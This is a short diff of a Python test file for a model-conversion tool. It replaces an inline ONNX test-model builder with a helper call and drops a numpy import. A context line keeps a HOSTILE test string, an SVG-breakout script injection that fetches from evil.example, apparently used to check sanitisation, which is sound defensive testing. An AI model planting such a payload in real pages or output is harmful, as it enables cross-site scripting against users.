@@ -6,7 +6,6 @@ from __future__ import annotations
 
 from pathlib import Path
 
-import numpy as np
 import pytest
 
 from bridge import ConvertOptions, convert
@@ -24,17 +23,7 @@ HOSTILE = '</svg><script>fetch("https://evil.example/x")</script><img src="http:
 
 
 def tiny(folder: Path, output: str = "y") -> str:
-    import onnx
-    from onnx import TensorProto, helper, numpy_helper
-
-    w = numpy_helper.from_array(np.linspace(-1, 1, 16, dtype=np.float32).reshape(4, 4), "w")
-    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], [output], name="mm")], "g",
-                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
-                              [helper.make_tensor_value_info(output, TensorProto.FLOAT, [1, 4])], initializer=[w])
-    path = folder / "tiny.onnx"
-    folder.mkdir(exist_ok=True)
-    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), path)
-    return str(path)
+    return fake_lane.tiny_onnx(folder, output=output)
 
 
 @pytest.fixture(autouse=True)
